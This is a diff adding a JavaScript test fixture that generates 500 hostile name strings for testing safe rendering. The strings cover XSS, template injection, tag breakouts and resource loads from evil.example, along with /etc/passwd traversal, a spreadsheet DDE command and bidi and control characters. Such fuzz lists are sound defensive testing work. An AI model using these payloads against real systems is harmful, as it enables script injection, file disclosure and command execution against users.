@@ -1,0 +1,61 @@
+// 500 strings that somebody could call something, so that it becomes more than a name.
+const CALL = "window.__pwned=1";
+
+const SHAPES = [
+  (n) => `<script>${CALL}/*${n}*/</script>`,
+  (n) => `<img src=x${n} onerror="${CALL}">`,
+  (n) => `<svg/onload=${CALL}//${n}>`,
+  (n) => `"><script>${CALL}//${n}</script>`,
+  (n) => `'><img src=x onerror=${CALL}>${n}`,
+  (n) => `" onmouseover="${CALL}" data-n="${n}`,
+  (n) => `' onfocus='${CALL}' autofocus tabindex='${n}`,
+  (n) => `javascript:${CALL}//${n}`,
+  (n) => `JaVaScRiPt:${CALL};${n}`,
+  (n) => `data:text/html,<script>${CALL}</script>${n}`,
+  (n) => `</script><script>${CALL}//${n}</script>`,
+  (n) => `</title><script>${CALL}//${n}</script>`,
+  (n) => `</style><script>${CALL}//${n}</script>`,
+  (n) => `</textarea><img src=x onerror=${CALL}>${n}`,
+  (n) => `<!--<script>${CALL}//${n}`,
+  (n) => `--><script>${CALL}</script>${n}`,
+  (n) => `<!DOCTYPE html><html onload=${CALL}>${n}`,
+  (n) => `]]><script>${CALL}</script>${n}`,
+  (n) => `{{constructor.constructor('${CALL}')()}}${n}`,
+  (n) => `\${${CALL}}${n}`,
+  (n) => `<%= ${CALL} %>${n}`,
+  (n) => `#{${CALL}}${n}`,
+  (n) => `";${CALL};"${n}`,
+  (n) => `';${CALL};'${n}`,
+  (n) => `\\";${CALL};//${n}`,
+  (n) => `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e${n}`,
+  (n) => `&lt;script&gt;${CALL}&lt;/script&gt;${n}`,
+  (n) => `&#60;script&#62;${CALL}&#60;/script&#62;${n}`,
+  (n) => `<iframe srcdoc="<script>parent.__pwned=1</script>">${n}`,
+  (n) => `<object data="javascript:${CALL}">${n}`,
+  (n) => `<a href="javascript:${CALL}">${n}</a>`,
+  (n) => `<form action="javascript:${CALL}"><button>${n}`,
+  (n) => `<math><mtext><style><img src=x onerror=${CALL}>${n}`,
+  (n) => `<link rel=stylesheet href="//evil.example/${n}.css">`,
+  (n) => `<base href="//evil.example/${n}/">`,
+  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
+  (n) => `url(//evil.example/${n}.png)`,
+  (n) => `expression(${CALL})${n}`,
+  (n) => `\u202e${n}\u2066>tpircs<\u2069`,
+  (n) => `\u200f\u061c\u200b\ufeff${n}`,
+  (n) => `\u2028${CALL}\u2029${n}`,
+  (n) => `a\u0000b<script>${CALL}</script>${n}`,
+  (n) => `\u001b[31m\u0007\b${n}`,
+  (n) => `\ud83d\ude08\u0301\u0301\u0301${n}`,
+  (n) => `__proto__ ${n}`,
+  (n) => `constructor\n{"__proto__":{"x":"${n}"}}`,
+  (n) => `%3Cscript%3E${CALL}%3C/script%3E${n}`,
+  (n) => `../../../../etc/passwd#/${n}?token=x`,
+  (n) => `=cmd|'/C calc'!A${n}`,
+  (n) => `${"long ".repeat(400)}<script>${CALL}</script>${n}`,
+];
+
+/** All of them; every shape in ten different copies. */
+export const HOSTILE = Array.from({ length: 500 }, (_, i) => SHAPES[i % SHAPES.length](i));
+
+/** Those that a table shows from end to end: without control characters, and not too long. */
+export const PLAIN = HOSTILE.filter((s) => s.length < 200 && !/[\u0000-\u001f\u007f-\u009f\u2028\u2029\ufeff]/.test(s));
